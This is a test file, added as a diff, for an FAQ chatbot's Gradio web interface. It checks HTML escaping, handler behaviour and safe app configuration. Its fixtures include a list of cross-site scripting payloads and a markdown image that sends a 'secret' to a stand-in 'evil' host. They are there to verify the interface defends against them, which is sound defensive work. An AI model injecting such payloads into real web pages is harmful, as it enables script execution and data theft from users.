@@ -1,0 +1,391 @@
+"""Chat UI without a browser: the pure formatting functions (escaping above all), the
+event handlers driven directly, and the app's configuration."""
+
+from __future__ import annotations
+
+import copy
+import inspect
+import itertools
+import time
+from collections.abc import Sequence
+from html.parser import HTMLParser
+from typing import Any
+
+import gradio as gr
+import pytest
+
+from bot import ui
+from bot.answer import ABSTAIN_TEXT, Answer, Citation
+from bot.config import Settings
+from bot.errors import InvalidQuestionError
+from bot.feedback import FeedbackLog
+from bot.ui import ChatHandlers, ChatState, build_app, page_options
+
+XSS = "<img src=x onerror=alert(1)>"
+MD_IMAGE = "![x](http://evil/?q=secret)"
+HOSTILE = [XSS, MD_IMAGE, "[click](javascript:alert(1))", "<script>alert(1)</script>",
+           '"><svg onload=alert(1)>', "<a href='http://evil/'>x</a>", "${7*7} {{value}} $$x$$",
+           "&lt;img src=x onerror=alert(1)&gt;",  # already-escaped text must stay literal too
+           "https://evil.example/track.png"]  # fmt: skip
+# Everything our formatters may emit; anything else would have come from the input.
+ALLOWED_TAGS = {"div", "p", "sup", "details", "summary", "ol", "li", "span", "blockquote",
+                "mark", "strong"}  # fmt: skip
+ALLOWED_ATTRS = {"class", "title", "role"}
+
+
+class Structure(HTMLParser):
+    """Collects tags, attributes and the visible text of an HTML fragment, as a browser would."""
+
+    def __init__(self, fragment: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.tags: set[str] = set()
+        self.attrs: set[str] = set()
+        self.text: list[str] = []
+        self.feed(fragment)
+        self.close()
+
+    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
+        self.tags.add(tag)
+        self.attrs.update(name for name, _ in attrs)
+
+    def handle_data(self, data: str) -> None:
+        self.text.append(data)
+
+
+parse = Structure
+
+
+def assert_inert(fragment: str, *expected_text: str) -> None:
+    """Only our own tags and attributes; hostile input survives only as visible text."""
+    s = parse(fragment)
+    assert s.tags <= ALLOWED_TAGS, s.tags - ALLOWED_TAGS
+    assert s.attrs <= ALLOWED_ATTRS, s.attrs - ALLOWED_ATTRS
+    text = "".join(s.text)
+    for expected in expected_text:
+        assert expected in text
+
+
+def cite(n: int = 1, quote: str = "It costs $40.", **kw: Any) -> Citation:
+    base = {"source": "guide.txt", "section": "Cost and funding", "passage": f"Hi. {quote} Bye."}
+    return Citation(n, quote=quote, start=0, end=len(quote), **{**base, **kw})
+
+
+# ----------------------------------------------------------------------------- formatting
+@pytest.mark.parametrize("payload", HOSTILE)
+def test_every_formatter_shows_hostile_text_as_text(payload: str) -> None:
+    c = cite(quote=payload, section=payload, source=payload, passage=f"a {payload} b")
+    assert_inert(ui.format_question(payload, 2000), payload)
+    assert_inert(ui.format_answer_text(f"{payload} [1]", [c]), payload)
+    assert_inert(ui.format_sources([c]), payload)
+    assert_inert(ui.format_answer(Answer(f"{payload} [1]", [c])), payload)
+    assert_inert(ui.format_abstention(payload), payload)
+    assert_inert(ui.format_notice(payload), payload)
+    assert_inert(ui.format_passage(c), payload)
+
+
+def test_xss_is_escaped_and_markdown_is_not_turned_into_markup() -> None:
+    out = ui.format_question(XSS, 2000)
+    assert "&lt;img src=x onerror=alert(1)&gt;" in out and "<img" not in out
+    # The Chatbot runs with render_markdown=False, so these characters reach the page as is.
+    out = ui.format_answer_text(f"See {MD_IMAGE} [1]", [cite()])
+    assert f"See {MD_IMAGE} " in out
+    assert "<img" not in out and "<a" not in out and "src=" not in out
+    assert ui.escape(None) == "" and ui.escape("a\"b'c") == "a&quot;b&#x27;c"
+
+
+def test_100_kb_text_is_escaped_fast_and_long_questions_are_shortened() -> None:
+    big = (XSS + " word [1] ") * (100_000 // 40)
+    started = time.perf_counter()
+    answer = ui.format_answer(Answer(big, [cite(quote=big, passage=big)]))
+    passage = ui.format_passage(cite(quote=big[:5000], passage=big))
+    question = ui.format_question(big, 2000)
+    assert time.perf_counter() - started < 1.0
+    assert_inert(answer)
+    assert_inert(passage)
+    assert len(question) < 3000 and "more characters" in question
+    assert_inert(question)
+
+
+def test_citation_markers_only_for_real_citations() -> None:
+    out = ui.format_answer_text("One [1]. Two [2]. Not a source [7].", [cite(1), cite(2)])
+    assert out.count('<sup class="faq-cite"') == 2
+    assert "[7]" in out and 'title="Source 7"' not in out
+
+
+def test_sources_block_is_collapsible_and_lists_section_and_quote() -> None:
+    out = ui.format_sources([cite(1), cite(2, quote="Funding exists.", section="Funding")])
+    s = parse(out)
+    assert {"details", "summary"} <= s.tags
+    text = "".join(s.text)
+    assert "Sources (2)" in text and "Cost and funding" in text and "Funding exists." in text
+    assert ui.format_sources([]) == ""
+    assert ">Source<" in ui.format_sources([cite()])
+
+
+def test_abstention_is_a_friendly_note_with_where_to_ask() -> None:
+    out = ui.format_answer(Answer(ABSTAIN_TEXT, [], True))
+    assert 'class="faq-abstain"' in out and "faq-sources" not in out
+    text = "".join(parse(out).text)
+    assert "MSSC" in text and "assessment center" in text and "Try asking" in text
+    assert "error" not in text.lower()
+
+
+def test_passage_highlights_the_quoted_sentence() -> None:
+    c = cite(quote="It costs <$40>.", passage="Intro <b>. It costs <$40>. Outro.")
+    out = ui.format_passage(c)
+    assert "<mark>It costs &lt;$40&gt;.</mark>" in out
+    assert "Intro &lt;b&gt;. " in out and " Outro." in out
+    assert_inert(out)
+
+
+def test_passage_without_the_quote_shows_both_and_none_shows_a_hint() -> None:
+    out = ui.format_passage(cite(quote="Reworded.", passage="Original text."))
+    assert "<mark>Reworded.</mark>" in out and "Original text." in out
+    assert "pick one of its sources" in ui.format_passage(None)
+
+
+def test_source_choices_label_section_and_value_number() -> None:
+    assert ui.source_choices([cite(1), cite(2, section="")]) == [
+        ("[1] Cost and funding", "1"),
+        ("[2] guide.txt", "2"),
+    ]
+
+
+@pytest.mark.parametrize("text", ["", "one", "  two words  ", "a [1] b\nc", XSS])
+def test_stream_prefixes_grow_word_by_word_to_the_full_text(text: str) -> None:
+    prefixes = list(ui.stream_prefixes(text))
+    assert prefixes[-1] == text
+    assert all(text.startswith(p) for p in prefixes)
+    assert all(len(a) < len(b) for a, b in itertools.pairwise(prefixes))
+    assert len(prefixes) == max(1, len(text.split()))
+
+
+def test_suggestions_are_six_distinct_sections_of_the_guide(guide_text: str) -> None:
+    assert len(ui.SUGGESTIONS) == 6
+    sections = [s for _, s in ui.SUGGESTIONS]
+    assert len(set(sections)) == 6
+    headings = set(guide_text.splitlines())
+    assert all(s in headings for s in sections)
+
+
+def test_suggestions_are_answered_with_a_source(chain: Any) -> None:
+    for question, _ in ui.SUGGESTIONS:
+        answer = chain.ask(question)
+        assert not answer.abstained and answer.citations, question
+
+
+# ----------------------------------------------------------------------------- handlers
+class StubChain:
+    """Answers every question with one citation and records what it was asked."""
+
+    def __init__(self, error: Exception | None = None) -> None:
+        self.calls: list[tuple[object, list[dict[str, str]]]] = []
+        self.error = error
+
+    def ask(self, question: object, history: Sequence[dict[str, str]] = ()) -> Answer:
+        self.calls.append((question, list(history)))
+        if self.error:
+            raise self.error
+        if question == "weather?":
+            return Answer(ABSTAIN_TEXT, [], True)
+        return Answer(f"Answer to {question} [1]", [cite(quote=f"Answer to {question}")])
+
+
+@pytest.fixture
+def stub() -> StubChain:
+    return StubChain()
+
+
+@pytest.fixture
+def handlers(stub: StubChain, settings: Settings, monkeypatch: pytest.MonkeyPatch) -> ChatHandlers:
+    monkeypatch.setattr(ui, "STREAM_WORD_SECONDS", 0.0)
+    return ChatHandlers(stub, settings)
+
+
+def run(handlers: ChatHandlers, message: object, state: ChatState) -> list[tuple[Any, ...]]:
+    """Every yield, with the chat as it was at that moment (the handler reuses its list)."""
+    return [(copy.deepcopy(chat), *rest) for chat, *rest in handlers.respond(message, state)]
+
+
+def test_respond_shows_question_then_streams_then_adds_sources(handlers: ChatHandlers) -> None:
+    state = ChatState()
+    steps = run(handlers, "How much?", state)
+    first = steps[0]
+    assert first[0][-1]["role"] == "user" and "How much?" in first[0][-1]["content"]
+    assert first[2] == ""  # the textbox is cleared at once
+    streamed = [s[0][-1]["content"] for s in steps[1:-1]]
+    assert len(streamed) == 5  # one step per word of "Answer to How much? [1]"
+    assert "faq-sources" not in streamed[-1]
+    final = steps[-1]
+    assert "faq-sources" in final[0][-1]["content"]
+    assert final[3]["choices"] == [("[1] Cost and funding", "1")] and final[3]["value"] == "1"
+    assert "<mark>Answer to How much?</mark>" in final[4]
+    assert len(state.messages) == 2 and state.session
+
+
+def test_follow_ups_get_the_history(handlers: ChatHandlers, stub: StubChain) -> None:
+    state = ChatState()
+    run(handlers, "How much?", state)
+    run(handlers, "And the exam?", state)
+    question, history = stub.calls[-1]
+    assert question == "And the exam?"
+    assert history == [
+        {"role": "user", "content": "How much?"},
+        {"role": "assistant", "content": "Answer to How much? [1]"},
+    ]
+
+
+def test_invalid_question_is_a_chat_reply_not_a_crash(chain: Any, settings: Settings) -> None:
+    handlers, state = ChatHandlers(chain, settings), ChatState()
+    for message in ["x" * 100_000, "   ", {"text": "not a string"}, None]:
+        steps = run(handlers, message, state)
+        reply = steps[-1][0][-1]
+        assert reply["role"] == "assistant" and 'class="faq-notice"' in reply["content"]
+    assert "limit is 2,000" in state.messages[1]["content"]
+    assert len(state.messages[0]["content"]) < 3000  # the 100 KB paste is not echoed
+    assert state.history() == []  # refused questions are not context for follow-ups
+
+
+@pytest.mark.parametrize(
+    ("error", "shown"),
+    [(RuntimeError("boom"), ui.SORRY), (InvalidQuestionError("Too long, shorten."), "Too long")],
+)
+def test_chain_failures_are_polite_replies(
+    error: Exception, shown: str, settings: Settings
+) -> None:
+    steps = run(ChatHandlers(StubChain(error), settings), "How much?", ChatState())
+    reply = steps[-1][0][-1]["content"]
+    assert shown in reply and "boom" not in reply and "faq-notice" in reply
+
+
+def test_abstention_is_not_streamed_and_has_no_sources(handlers: ChatHandlers) -> None:
+    steps = run(handlers, "weather?", ChatState())
+    assert len(steps) == 2
+    assert "faq-abstain" in steps[-1][0][-1]["content"]
+    assert steps[-1][3]["choices"] == []
+
+
+def test_history_cap_is_explained_once(stub: StubChain, settings: Settings) -> None:
+    handlers, state = ChatHandlers(stub, settings.with_(max_history_turns=2)), ChatState()
+    notes = []
+    for i in range(4):
+        steps = run(handlers, f"q{i}", state)
+        notes.append("only the last 2 messages" in steps[-1][0][-1]["content"])
+    assert notes == [False, False, True, False]
+
+
+def test_old_exchanges_leave_the_page(
+    handlers: ChatHandlers, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    monkeypatch.setattr(ui, "MAX_SHOWN_TURNS", 3)
+    state = ChatState()
+    for i in range(5):
+        run(handlers, f"q{i}", state)
+    assert [t.question for t in state.turns] == ["q2", "q3", "q4"]
+    assert len(state.messages) == 6 and "q2" in state.messages[0]["content"]
+    turn = state.turn_at(3)
+    assert turn is not None and turn.question == "q3"
+    assert state.turn_at(6) is None and state.turn_at(-1) is None and state.turn_at("1") is None
+    assert state.turn_at([5, 0]) is state.turns[2]
+
+
+def like(index: object, liked: object) -> gr.LikeData:
+    return gr.LikeData(None, {"index": index, "value": ["..."], "liked": liked})
+
+
+def test_like_appends_question_answer_citations_and_vote(
+    handlers: ChatHandlers, settings: Settings
+) -> None:
+    state = ChatState()
+    run(handlers, "How much?", state)
+    run(handlers, "weather?", state)
+    handlers.like(state, like(1, True))
+    handlers.like(state, like(3, False))
+    handlers.like(state, like(99, True))  # stale or forged index: ignored
+    records = list(FeedbackLog(settings.data_dir, 10_000).records())
+    assert [(r["question"], r["vote"], r["abstained"]) for r in records] == [
+        ("How much?", "up", False),
+        ("weather?", "down", True),
+    ]
+    first = records[0]
+    assert first["answer"] == "Answer to How much? [1]" and first["time"]
+    assert first["citations"][0]["section"] == "Cost and funding"
+    assert first["session"] == state.session
+
+
+def test_selecting_an_answer_lists_its_sources(handlers: ChatHandlers) -> None:
+    state = ChatState()
+    run(handlers, "first", state)
+    run(handlers, "second", state)
+    radio, passage = handlers.select_answer(state, gr.SelectData(None, {"index": 1, "value": ""}))
+    assert radio["value"] == "1" and "Answer to first" in passage
+    assert "Answer to first" in handlers.show_source("1", state)
+    assert "pick one of its sources" in handlers.show_source("<forged>", state)
+
+
+def test_example_click_asks_the_suggestion(handlers: ChatHandlers, stub: StubChain) -> None:
+    data = gr.SelectData(None, {"index": 0, "value": {"text": ui.SUGGESTIONS[0][0]}})
+    list(handlers.respond_example(ChatState(), data))
+    assert stub.calls[-1][0] == ui.SUGGESTIONS[0][0]
+
+
+def test_clear_starts_over() -> None:
+    chat, state, text, radio, passage = ChatHandlers.clear()
+    assert chat == [] and state == ChatState() and text == "" and radio["choices"] == []
+    assert "pick one of its sources" in passage
+
+
+# ----------------------------------------------------------------------------- app config
+def components(app: gr.Blocks, kind: type) -> list[Any]:
+    return [b for b in app.blocks.values() if isinstance(b, kind)]
+
+
+def test_app_is_safe_by_configuration(stub: StubChain, settings: Settings) -> None:
+    app = build_app(stub, settings)
+    assert app.analytics_enabled is False
+    (chatbot,) = components(app, gr.Chatbot)
+    assert chatbot.render_markdown is False and chatbot.sanitize_html is True
+    assert chatbot.allow_tags is False and chatbot.latex_delimiters == []
+    assert chatbot.buttons == [] and chatbot.feedback_options == ("Like", "Dislike")
+    assert [e["text"] for e in chatbot.examples] == [q for q, _ in ui.SUGGESTIONS]
+    assert not components(app, gr.File) and not components(app, gr.MultimodalTextbox)
+    (textbox,) = components(app, gr.Textbox)
+    assert textbox.max_length == settings.max_question_chars
+    assert settings.title in str(components(app, gr.HTML)[0].value)
+
+
+def test_title_and_greeting_from_settings_escaped_and_compact(settings: Settings) -> None:
+    custom = settings.with_(title="Ask <Ivy Tech>", greeting="Hi <b>student</b>!")
+    app = build_app(StubChain(), custom)
+    assert app.title == "Ask <Ivy Tech>"
+    assert "Ask &lt;Ivy Tech&gt;" in str(components(app, gr.HTML)[0].value)
+    (chatbot,) = components(app, gr.Chatbot)
+    assert "Hi &lt;b&gt;student&lt;/b&gt;!" in chatbot.placeholder
+    compact = build_app(StubChain(), custom, compact=True)  # for the iframe widget
+    assert not any("Ivy Tech" in str(h.value) for h in components(compact, gr.HTML))
+    assert len([c for c in components(compact, gr.Column) if c.visible is False]) == 1
+
+
+def test_page_options_fit_launch_and_mount_and_use_system_fonts() -> None:
+    options = page_options()
+    assert options["enable_monitoring"] is False and options["max_file_size"] == 0
+    assert "Content-Security-Policy" in options["head"]
+    for fn in (gr.Blocks.launch, gr.mount_gradio_app):
+        assert set(options) <= set(inspect.signature(fn).parameters), fn
+    theme = options["theme"]
+    fonts = [*theme._font, *theme._font_mono]
+    assert fonts and all(type(f) in (str, gr.themes.Font) for f in fonts)
+    assert theme._stylesheets == [] and "googleapis" not in theme._get_theme_css()
+
+
+def test_mounted_app_serves_and_refuses_uploads(stub: StubChain, settings: Settings) -> None:
+    from fastapi import FastAPI
+    from fastapi.testclient import TestClient
+
+    app = gr.mount_gradio_app(FastAPI(), build_app(stub, settings), "/chat", **page_options())
+    with TestClient(app) as client:
+        assert client.get("/chat/config").status_code == 200
+        assert client.get("/chat/monitoring").status_code != 200
+        for size in (10, 100_000):
+            files = {"files": ("f.txt", b"x" * size, "text/plain")}
+            assert client.post("/chat/gradio_api/upload", files=files).status_code == 413
